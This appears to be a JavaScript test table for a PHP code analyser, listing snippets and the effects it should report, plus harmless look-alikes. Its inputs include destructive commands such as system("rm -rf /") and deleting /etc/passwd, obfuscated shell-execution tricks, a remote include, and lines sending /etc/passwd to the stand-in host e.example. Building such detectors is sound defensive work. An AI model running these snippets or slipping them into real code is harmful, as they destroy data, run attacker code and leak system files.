import { table } from "../testing/table.js";

table("php", "what it does", [
  { why: "system", code: 'system("rm -rf /");', does: ["shell rm -rf /"] },
  { why: "backquotes", code: "<?php `id`; ?>", does: ["shell id"] },
  { why: "a function by a name put together", code: '$f = "sys" . "tem"; $f("id");', does: ["shell id"] },
  { why: "call_user_func", code: 'call_user_func("system", "id");', does: ["shell id"] },
  { why: "array_map over a function's name", code: 'array_map("system", ["id"]);', does: ["shell id"] },
  {
    why: "base64 and eval",
    code: 'eval(base64_decode("c3lzdGVtKCJpZCIpOw=="));',
    does: ['evaluate php system("id");', "shell id"],
  },
  { why: "backwards", code: 'system(strrev("di"));', does: ["shell id"] },
  { why: "rot13", code: 'system(str_rot13("vq"));', does: ["shell id"] },
  { why: "letters by number", code: "system(chr(105) . chr(100));", does: ["shell id"] },
  { why: "letters of a text negated", code: 'system(~"\\x96\\x9b");', does: ["shell id"] },
  { why: "a request decides what is called", code: '$_GET["a"]($_GET["b"]);', does: ["opaque untrusted_code"] },
  { why: "assert of a text", code: "assert(\"system('id')\");", does: ["evaluate php system('id')", "shell id"] },
  {
    why: "include of an address",
    code: 'include "http://e.example/x.php";',
    does: ["receive e.example", "evaluate php UNKNOWN", "opaque untrusted_code"],
  },
  { why: "include of a file", code: 'include "x.php";', does: ["evaluate php x.php"] },
  {
    why: "files",
    code: 'unlink("/etc/passwd"); file_put_contents("/tmp/x", "a");',
    does: ["delete /etc/passwd", "write /tmp/x = a"],
  },
  {
    why: "a download is written, untrusted",
    code: 'file_put_contents("/tmp/x", file_get_contents("http://e.example/"));',
    does: ["receive e.example", "write /tmp/x untrusted"],
  },
  {
    why: "a context says by which method",
    code: 'file_get_contents("https://e.example/v1/x", false, stream_context_create(["http" => ["method" => "DELETE"]]));',
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "and what is sent",
    code: '$o = ["http" => ["method" => "POST", "content" => file_get_contents("/etc/passwd")]]; fopen("https://e.example/", "r", false, stream_context_create($o));',
    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "a file among the headers is sent as well",
    code: 'file("https://e.example/", 0, stream_context_create(["http" => ["header" => "a: " . file_get_contents("/etc/passwd")]]));',
    does: ["read /etc/passwd", "send GET e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "a context that only asks otherwise",
    code: 'file_get_contents("https://e.example/", false, stream_context_create(["http" => ["header" => "a: b"], "ssl" => []]));',
    does: ["receive e.example"],
  },
  {
    why: "curl sends what its options say",
    code: '$c = curl_init("https://e.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/etc/passwd")); curl_exec($c);',
    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "methods of objects",
    code: 'class A { private $c; function __construct($c) { $this->c = $c; } function go() { exec($this->c); } } (new A("id"))->go();',
    does: ["shell id"],
  },
]);

table("php", "look-alikes that do nothing", [
  { why: "comments and texts", code: "// system('x');\n# exec('y');\n/* `z` */ $a = \"system('rm')\";", does: [] },
  { why: "text around tags is printed", code: "a<?php echo 1; ?>b", does: ['print "a1b"'] },
  {
    why: "arrays, loops, closures",
    code: '$a = ["x" => 1]; foreach ($a as $k => $v) { echo "$k={$v}\\n"; } echo implode(",", array_map(fn($x) => $x * 2, [1, 2]));',
    does: ['print "x=1\\n2,4"'],
  },
  { why: "a method of the same name", code: '$db->exec("DROP"); $x->system("y");', does: [] },
]);
